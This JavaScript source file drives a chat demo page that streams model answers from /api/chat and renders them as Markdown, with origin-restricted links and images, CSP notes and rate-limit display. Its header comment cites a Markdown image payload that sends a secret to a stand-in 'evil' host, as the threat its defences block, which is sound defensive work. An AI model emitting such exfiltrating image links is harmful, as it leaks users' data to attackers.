/* chatgate demo page: sends a message to /api/chat and shows the answer as
 * it arrives. Safety rules this file keeps:
 *  - model text is rendered as Markdown by markdown-it (vendor/, pinned in
 *    tests/browser/package-lock.json) with raw HTML off and linkify on:
 *    the renderer and settings chatgate's output guard is proven against
 *    (docs/guards.md, tests/t/81-differential.t), so an answer carrying
 *    ![x](http://evil/?d=secret) reaches the page without its URL; the CSP
 *    (img-src 'self', no inline script) is the second wall, and this page
 *    links and shows images only on its own origin, the third. Without
 *    markdown-it the text is shown as plain text;
 *  - the page never sees the session token (the cookie is HttpOnly) and
 *    stores nothing in localStorage or sessionStorage;
 *  - it talks only to its own origin (the CSP says so too).
 * It works with a streaming chatgate (text/event-stream) and with one that
 * answers plain JSON. */
'use strict';

(function () {
    const log = document.getElementById('log');
    const form = document.getElementById('chat');
    const input = document.getElementById('message');
    const send = document.getElementById('send');
    const status = document.getElementById('status');
    const limits = document.getElementById('limits');
    const login = document.getElementById('login');
    const md = window.markdownit
        ? window.markdownit({ html: false, linkify: true }) : null;
    if (md) {
        /* A third wall, after the guard and the CSP: this page makes links
         * and images only to its own origin; anything else stays text. */
        md.validateLink = function (url) {
            try {
                return new URL(url, location.href).origin === location.origin;
            } catch (e) {
                return false;
            }
        };
    }

    /* The answer so far, rendered whole each time (a construct may close in
     * a later delta). */
    function show(body, text) {
        body.dataset.raw = text;
        if (md) {
            body.innerHTML = md.render(text);
        } else {
            body.textContent = text;
        }
    }

    function entry(role, label, text) {
        const li = document.createElement('li');
        li.className = role;
        const who = document.createElement('span');
        who.className = 'who';
        who.textContent = label;
        const body = document.createElement('div');
        body.className = 'text';
        body.textContent = text;
        li.append(who, body);
        log.append(li);
        li.scrollIntoView({ block: 'end' });
        return body;
    }

    /* The cookie is HttpOnly, so the page learns it is logged in only from
     * the answers: offer the matching button. */
    function loggedIn(yes) {
        login.textContent = yes ? 'Log out' : 'Log in as demo';
        login.href = yes ? '/demo-logout' : '/demo-login';
        login.classList.toggle('attention', !yes);
    }

    function showError(text) {
        entry('error', 'Error', text);
    }

    /* Structured fields of the IETF RateLimit draft, one item per policy:
     *   RateLimit-Policy: "rpm";q=20;w=60, "tpm";q=10000;w=60
     *   RateLimit: "rpm";r=19;t=42, "tpm";r=9800;t=42
     * and, when the server sends one, any budget header. */
    function rateItems(value, key) {
        const out = {};
        for (const item of (value || '').split(',')) {
            const m = item.trim().match(/^"([\w-]+)"(.*)$/);
            const p = m && m[2].match(new RegExp(';' + key + '=(\\d+)'));
            if (p) {
                out[m[1]] = Number(p[1]);
            }
        }
        return out;
    }

    function showLimits(headers) {
        const parts = [];
        const quota = rateItems(headers.get('RateLimit-Policy'), 'q');
        const left = rateItems(headers.get('RateLimit'), 'r');
        if ('rpm' in quota && 'rpm' in left) {
            parts.push(left.rpm + ' of ' + quota.rpm
                       + ' requests left this minute');
        }
        for (const [name, value] of headers) {
            if (/budget/i.test(name)) {
                parts.push(name.replace(/^x-/i, '') + ': ' + value);
            }
        }
        if (parts.length) {
            limits.textContent = parts.join(' · ');
        }
    }

    function retryText(headers) {
        const s = parseInt(headers && headers.get('Retry-After'), 10);
        if (!(s >= 0)) {
            return 'Please wait a minute and try again.';
        }
        return 'Please wait ' + s + (s === 1 ? ' second' : ' seconds')
               + ' and try again.';
    }

    /* Words a user understands, by HTTP status or by error type. */
    function errorText(status, type, message, headers) {
        if (status === 401 || type === 'authentication_error') {
            loggedIn(false);
            return 'Please log in to chat (use the "Log in" button above).';
        }
        if (status === 429 || type === 'rate_limited') {
            return 'You have sent too many messages. ' + retryText(headers);
        }
        if (status === 403) {
            return 'This page is not allowed to use the chat service.';
        }
        if (status === 413) {
            return 'Your message is too long.';
        }
        if (status === 400) {
            return 'Your message could not be sent: '
                   + (message || 'the request was not valid.');
        }
        if (status >= 500 || /^(upstream|service)_/.test(type || '')) {
            return 'The AI service is unavailable right now. '
                   + 'Please try again in a moment.';
        }
        return 'The request was refused (' + (message || 'status ' + status)
               + ').';
    }

    /* Server-Sent Events from a fetch body: calls onEvent(name, data) for
     * each event; comments (": ping") are skipped. */
    async function readEvents(body, onEvent) {
        const reader = body.pipeThrough(new TextDecoderStream()).getReader();
        let buf = '';
        for (;;) {
            const { value, done } = await reader.read();
            if (done) {
                break;
            }
            buf = (buf + value).replace(/\r\n/g, '\n');
            let end;
            while ((end = buf.indexOf('\n\n')) >= 0) {
                dispatch(buf.slice(0, end), onEvent);
                buf = buf.slice(end + 2);
            }
        }
        if (buf.trim() !== '') {
            dispatch(buf, onEvent);
        }
    }

    function dispatch(block, onEvent) {
        let name = 'message';
        const data = [];
        for (const line of block.split('\n')) {
            if (line === '' || line[0] === ':') {
                continue;
            }
            const c = line.indexOf(':');
            const field = c < 0 ? line : line.slice(0, c);
            let value = c < 0 ? '' : line.slice(c + 1);
            if (value[0] === ' ') {
                value = value.slice(1);
            }
            if (field === 'event') {
                name = value;
            } else if (field === 'data') {
                data.push(value);
            }
        }
        if (data.length) {
            onEvent(name, JSON.parse(data.join('\n')));
        }
    }

    async function streamAnswer(res) {
        const out = entry('assistant', 'Assistant', '');
        out.parentNode.dataset.mode = 'stream';
        let text = '';
        let finished = false;
        await readEvents(res.body, function (name, data) {
            if (name === 'delta' && typeof data.text === 'string') {
                text += data.text;
                show(out, text);
            } else if (name === 'done') {
                finished = true;
                out.parentNode.dataset.done = '1';
            } else if (name === 'error') {
                finished = true;
                const e = data.error || {};
                showError(errorText(0, e.type, e.message, null));
            }
        });
        if (!finished) {
            showError('The answer was cut off. Please try again.');
        }
    }

    async function jsonAnswer(res) {
        let data = null;
        try {
            data = await res.json();
        } catch (e) {
            data = null;
        }
        if (res.ok && data && typeof data.text === 'string') {
            const out = entry('assistant', 'Assistant', '');
            show(out, data.text);
            out.parentNode.dataset.mode = 'json';
            out.parentNode.dataset.done = '1';
            return;
        }
        const e = (data && data.error) || {};
        showError(errorText(res.status, e.type, e.message, res.headers));
    }

    async function ask(message) {
        const res = await fetch('/api/chat', {
            method: 'POST',
            credentials: 'same-origin',
            cache: 'no-store',
            referrerPolicy: 'no-referrer',
            headers: {
                'Content-Type': 'application/json',
                'Accept': 'text/event-stream, application/json'
            },
            body: JSON.stringify({ message: message, stream: true })
        });
        showLimits(res.headers);
        if (res.ok) {
            loggedIn(true);
        }
        const type = res.headers.get('Content-Type') || '';
        if (res.ok && type.startsWith('text/event-stream')) {
            await streamAnswer(res);
        } else {
            await jsonAnswer(res);
        }
    }

    form.addEventListener('submit', async function (ev) {
        ev.preventDefault();
        const message = input.value.trim();
        if (message === '' || send.disabled) {
            return;
        }
        entry('user', 'You', message);
        input.value = '';
        send.disabled = true;
        status.textContent = 'Waiting for the answer…';
        try {
            await ask(message);
        } catch (e) {
            showError('The chat service could not be reached. '
                      + 'Check your connection and try again.');
        } finally {
            status.textContent = '';
            send.disabled = false;
            input.focus();
        }
    });

    input.addEventListener('keydown', function (ev) {
        if (ev.key === 'Enter' && !ev.shiftKey) {
            ev.preventDefault();
            form.requestSubmit();
        }
    });
})();
